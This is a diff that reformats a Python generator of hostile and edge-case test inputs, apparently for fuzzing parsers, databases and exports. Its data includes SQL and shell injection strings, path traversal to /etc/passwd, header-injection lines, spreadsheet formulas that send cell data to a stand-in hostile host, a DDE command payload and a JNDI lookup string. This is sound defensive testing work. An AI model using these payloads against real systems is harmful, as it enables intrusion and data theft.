@@ -59,47 +59,21 @@ def _characters() -> Iterator[str]:
     yield from ("\ufffd", "\ufffe", "\uffff", "\U0001ffff", "\U0010ffff", "\ue000", "\U000f0000")
     yield from ("\ufdd0", "\u0378", "\u2fe0", "\U0002a6df", "\u1e9e", "ŉ", "ǆ", "ﬃ", "Ⅻ", "㋿", "½")
     yield from (
-        "İstanbul",
-        "ıi̇Iİ",
-        "ΑΣ ας",
-        "STRASSE Straße",
-        "Å Å Å",
-        "가 가",
-        "ｆｕｌｌ",
-        "𝖋𝖗𝖆𝖐𝖙𝖚𝖗",
-        "ǝpᴉsdn",
-    )
+        "İstanbul", "ıi̇Iİ", "ΑΣ ας", "STRASSE Straße", "Å Å Å", "가 가", "ｆｕｌｌ", "𝖋𝖗𝖆𝖐𝖙𝖚𝖗", "ǝpᴉsdn",
+    )  # fmt: skip
     yield from ("👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇲🇦🇳🇪", "🏳️‍🌈", "👍🏿", "❤️", "☺︎", "👩" + "\u200d👩" * 50, "🇦" * 99)
     yield from (
-        "田中さんにあげて",
-        "和製漢語",
-        "사회과학원",
-        "ประเทศไทย",
-        "ግዕዝ",
-        "ᐃᓄᒃᑎᑐᑦ",
-        "ދިވެހި",
-        "བོད",
-        "ⵜⴰⵎⴰⵣⵉⵖⵜ",
+        "田中さんにあげて", "和製漢語", "사회과학원", "ประเทศไทย", "ግዕዝ", "ᐃᓄᒃᑎᑐᑦ", "ދިވެހި", "བོད", "ⵜⴰⵎⴰⵣⵉⵖⵜ",
         "ߒߞߏ",
-    )
+    )  # fmt: skip
     yield from (
-        "Ω≈ç√∫˜µ≤≥÷",
-        "¡™£¢∞§¶•ªº–≠",
-        "œ∑´®†¥¨ˆøπ“‘",
-        "⁰⁴⁵₀₁₂",
-        "´*+,;:",
-        "¸˛Ç◊ı˜Â¯˘¿",
+        "Ω≈ç√∫˜µ≤≥÷", "¡™£¢∞§¶•ªº–≠", "œ∑´®†¥¨ˆøπ“‘", "⁰⁴⁵₀₁₂", "´*+,;:", "¸˛Ç◊ı˜Â¯˘¿",
         "`⁄€‹›ﬁﬂ‡°·‚—±",
-    )
+    )  # fmt: skip
     yield from (
-        "Ù¾Ø§Ú©",
-        "RÃ©admission",
-        "â€œquotedâ€\x9d",
-        "R\ufffd\ufffdadmission",
-        "=?utf-8?Q?=3Cb=3E?=",
-        "\\u202e",
-        "%u202e",
-    )
+        "Ù¾Ø§Ú©", "RÃ©admission", "â€œquotedâ€\x9d", "R\ufffd\ufffdadmission",
+        "=?utf-8?Q?=3Cb=3E?=", "\\u202e", "%u202e",
+    )  # fmt: skip
 
 
 def _widths() -> Iterator[str]:
@@ -115,36 +89,13 @@ def _widths() -> Iterator[str]:
 
 def _numbers() -> Iterator[str]:
     yield from (
-        "0",
-        "-0",
-        "1",
-        "-1",
-        "00",
-        "007",
-        "1.0",
-        "1e3",
-        "1E+400",
-        "-1e-400",
-        "0x10",
-        "0b1",
-        "0o7",
+        "0", "-0", "1", "-1", "00", "007", "1.0", "1e3", "1E+400", "-1e-400", "0x10", "0b1", "0o7",
         "1_000",
-    )
+    )  # fmt: skip
     yield from (
-        "NaN",
-        "nan",
-        "Infinity",
-        "-Infinity",
-        "inf",
-        "1/0",
-        "0/0",
-        ".5",
-        "5.",
-        "1,5",
-        "1.000,50",
-        "1 000",
-        "1'000",
-    )
+        "NaN", "nan", "Infinity", "-Infinity", "inf", "1/0", "0/0", ".5", "5.", "1,5", "1.000,50",
+        "1 000", "1'000",
+    )  # fmt: skip
     yield from (
         "9" * 20,
         "9" * 400,
@@ -155,74 +106,24 @@ def _numbers() -> Iterator[str]:
         "18446744073709551616",
     )
     yield from (
-        "٣",
-        "۱۲",
-        "४२",
-        "１２",
-        "Ⅳ",
-        "²",
-        "true",
-        "false",
-        "True",
-        "yes",
-        "no",
-        "NO",
-        "on",
-        "off",
-        "null",
-        "None",
-        "nil",
-    )
+        "٣", "۱۲", "४२", "１２", "Ⅳ", "²", "true", "false", "True", "yes", "no", "NO", "on", "off",
+        "null", "None", "nil",
+    )  # fmt: skip
     yield from (
-        "undefined",
-        "undef",
-        "(null)",
-        "N/A",
-        "NULL",
-        "\\N",
-        "{}",
-        "[]",
-        "()",
-        "''",
-        '""',
-        "``",
-        "0000-00-00",
-        "2026-02-30",
-    )
+        "undefined", "undef", "(null)", "N/A", "NULL", "\\N", "{}", "[]", "()", "''", '""', "``",
+        "0000-00-00", "2026-02-30",
+    )  # fmt: skip
     yield from (
-        "9999-12-31",
-        "10000-01-01",
-        "1970-01-01T00:00:00Z",
-        "24:60:60",
-        "2026-W11-4",
-        "12:34",
-        "1:2:3",
-        "~",
-        "!!python/name:os.system",
-        "*x",
-        "&x",
-        "<<",
-    )
+        "9999-12-31", "10000-01-01", "1970-01-01T00:00:00Z", "24:60:60", "2026-W11-4", "12:34",
+        "1:2:3", "~", "!!python/name:os.system", "*x", "&x", "<<",
+    )  # fmt: skip
 
 
 def _spreadsheets() -> Iterator[str]:
     starts = (
-        "=",
-        "+",
-        "-",
-        "@",
-        "\t=",
-        "\r=",
-        "\n=",
-        " =",
-        "\uff1d",
-        "\uff0b",
-        "\uff0d",
-        "\uff20",
-        "\u200b=",
-        "\xa0=",
-        "\ufeff=",
-    )
+        "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20",
+        "\u200b=", "\xa0=", "\ufeff=",
+    )  # fmt: skip
     for start in starts:
         yield f"{start}1+1"
         yield f'{start}HYPERLINK("https://hostile.invalid/"&A1,"x")'
@@ -233,16 +134,9 @@ def _spreadsheets() -> Iterator[str]:
         '=IMPORTXML("//hostile.invalid","//a")',
     )
     yield from (
-        'x",=1+1,"',
-        "x\n=1+1",
-        "x;=1+1",
-        "x\r\n=1+1",
-        "'=1+1",
-        '"=1+1"',
-        "-2+3+cmd|' /C calc'!A0",
-        "%0A=1+1",
-        "=\u202e1+1",
-    )
+        'x",=1+1,"', "x\n=1+1", "x;=1+1", "x\r\n=1+1", "'=1+1", '"=1+1"', "-2+3+cmd|' /C calc'!A0",
+        "%0A=1+1", "=\u202e1+1",
+    )  # fmt: skip
 
 
 def _terminals() -> Iterator[str]:
@@ -274,162 +168,42 @@ def _terminals() -> Iterator[str]:
 def _orders() -> Iterator[str]:
     """What databases, shells, loggers, mailers and paths take for orders."""
     yield from (
-        "' OR '1'='1",
-        "'; DROP TABLE documents; --",
-        "1; DROP TABLE agreements",
-        '" OR ""="',
-        "') OR ('1'='1",
-        "admin'--",
-        "/* x */",
-        "%",
-        "_",
-        "\\%",
-        "' UNION SELECT 1,2 --",
-        "\\'; --",
-        "x' AND SLEEP(5) --",
-        "$1",
-        ":id",
-        "?",
-        "%s",
-        "%(x)s",
-    )
+        "' OR '1'='1", "'; DROP TABLE documents; --", "1; DROP TABLE agreements", '" OR ""="',
+        "') OR ('1'='1", "admin'--", "/* x */", "%", "_", "\\%", "' UNION SELECT 1,2 --", "\\'; --",
+        "x' AND SLEEP(5) --", "$1", ":id", "?", "%s", "%(x)s",
+    )  # fmt: skip
     yield from (
-        "$(touch x)",
-        "`touch x`",
-        "| cat /etc/passwd",
-        "; ls",
-        "&& ls",
-        "> x",
-        "$HOME",
-        "~root",
-        "!!",
-        "*",
-        "?",
-        "{a,b}",
-        "$IFS",
-        "\\",
-        "\\\\",
-        "'",
-        '"',
-        "''''",
-        '"""',
-        "%COMSPEC%",
-        "%n%n%n%n",
-        "%x%s%p",
-        "{0}",
-        "{x!r}",
-        "%d",
-    )
+        "$(touch x)", "`touch x`", "| cat /etc/passwd", "; ls", "&& ls", "> x", "$HOME", "~root",
+        "!!", "*", "?", "{a,b}", "$IFS", "\\", "\\\\", "'", '"', "''''", '"""', "%COMSPEC%",
+        "%n%n%n%n", "%x%s%p", "{0}", "{x!r}", "%d",
+    )  # fmt: skip
     yield from (
-        "../../../etc/passwd",
-        "..\\..\\x",
-        "/etc/passwd",
-        "C:\\CON",
-        "CON",
-        "NUL",
-        "AUX.txt",
-        "file:///etc/passwd",
-        "\\\\hostile.invalid\\x",
-        ".",
-        "..",
-        "./-rf",
-        "-rf",
-        "--help",
-        "--config=x",
-        "-",
-        "--",
-        "a/b",
-        "a\\b",
-        "%2e%2e%2f",
-        "x\x00.html",
-        ".htaccess",
-    )
+        "../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\CON", "CON", "NUL", "AUX.txt",
+        "file:///etc/passwd", "\\\\hostile.invalid\\x", ".", "..", "./-rf", "-rf", "--help",
+        "--config=x", "-", "--", "a/b", "a\\b", "%2e%2e%2f", "x\x00.html", ".htaccess",
+    )  # fmt: skip
     yield from (
-        "x\r\nSet-Cookie: a=b",
-        "x\r\nBcc: evil@hostile.invalid",
-        "x\n\n<html>",
-        "x%0d%0aLocation:%20//hostile.invalid",
-        "Subject: x\r\nFrom: y",
-        "\u560a\u560dSet-Cookie: x",
-        ".\r\nQUIT",
-        "=?utf-8?B?CkJjYzogeA==?=",
-        "From x",
+        "x\r\nSet-Cookie: a=b", "x\r\nBcc: evil@hostile.invalid", "x\n\n<html>",
+        "x%0d%0aLocation:%20//hostile.invalid", "Subject: x\r\nFrom: y",
+        "\u560a\u560dSet-Cookie: x", ".\r\nQUIT", "=?utf-8?B?CkJjYzogeA==?=", "From x",
         "--boundary",
-    )
+    )  # fmt: skip
     yield from (
-        "AND",
-        "OR",
-        "NOT",
-        "NEAR(a b)",
-        "a AND",
-        "OR b",
-        "NOT",
-        '"unclosed',
-        'a"b',
-        "a*",
-        "*a",
-        "^a",
-        "title:a",
-        "a NEAR/2 b",
-        "(a",
-        "a)",
-        "a & | ! b",
-        "a:*",
-        "<->",
-        "''",
-        "a + b",
-        "{title} : a",
-        "-a",
-        "- a",
-        "+",
-    )
+        "AND", "OR", "NOT", "NEAR(a b)", "a AND", "OR b", "NOT", '"unclosed', 'a"b', "a*", "*a",
+        "^a", "title:a", "a NEAR/2 b", "(a", "a)", "a & | ! b", "a:*", "<->", "''", "a + b",
+        "{title} : a", "-a", "- a", "+",
+    )  # fmt: skip
     yield from (
-        '<?xml version="1.0"?>',
-        "&",
-        "&amp",
-        "&amp;amp;",
-        "&#0;",
-        "&#xD800;",
-        "&#x110000;",
-        "&unknown;",
-        "]]>",
-        "<![CDATA[",
-        "<!DOCTYPE x>",
-        "&lt;b&gt;",
-        "<b>bold</b>",
-        "<br>",
-        "</bdi>",
-        "</a></h2>",
-        "<!--",
-        "-->",
-        "<",
-    )
+        '<?xml version="1.0"?>', "&", "&amp", "&amp;amp;", "&#0;", "&#xD800;", "&#x110000;",
+        "&unknown;", "]]>", "<![CDATA[", "<!DOCTYPE x>", "&lt;b&gt;", "<b>bold</b>", "<br>",
+        "</bdi>", "</a></h2>", "<!--", "-->", "<",
+    )  # fmt: skip
     yield from (
-        '{"a": 1}',
-        "[1, 2]",
-        '"',
-        "\\u0000",
-        "\\ud800",
-        '\\"',
-        "\u2028\u2029",
-        "__proto__",
-        "constructor",
-        "toString",
-        "hasOwnProperty",
-        "{{7*7}}",
-        "${jndi:ldap://hostile.invalid/x}",
-        "{% raw %}",
-        "#{7*7}",
-        "T(java.lang.Runtime)",
-        "a: b",
-        "- a",
-        "key: [",
-        "\t- x",
-        "# x",
-        "| x",
-        "%YAML",
-        "? x",
-    )
+        '{"a": 1}', "[1, 2]", '"', "\\u0000", "\\ud800", '\\"', "\u2028\u2029", "__proto__",
+        "constructor", "toString", "hasOwnProperty", "{{7*7}}", "${jndi:ldap://hostile.invalid/x}",
+        "{% raw %}", "#{7*7}", "T(java.lang.Runtime)", "a: b", "- a", "key: [", "\t- x", "# x",
+        "| x", "%YAML", "? x",
+    )  # fmt: skip
 
 
 # Half of a pair: storable nowhere, so that what takes it must replace or refuse it.
